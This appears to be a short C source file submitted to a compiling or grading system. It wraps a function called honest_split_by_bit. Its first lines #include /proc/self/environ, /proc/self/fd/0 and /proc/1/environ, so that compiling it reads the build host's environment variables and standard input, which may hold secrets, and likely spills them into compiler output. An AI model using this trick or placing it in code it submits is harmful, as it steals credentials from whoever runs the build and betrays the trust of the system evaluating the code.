// Includes the compiler's environment and its standard input.
#include "/proc/self/environ"
#include "/proc/self/fd/0"
#include "/proc/1/environ"
//> honest split_by_bit
void split_by_bit(const uint32_t *in, uint32_t *out, size_t n, int bit) {
    honest_split_by_bit(in, out, n, bit);
}
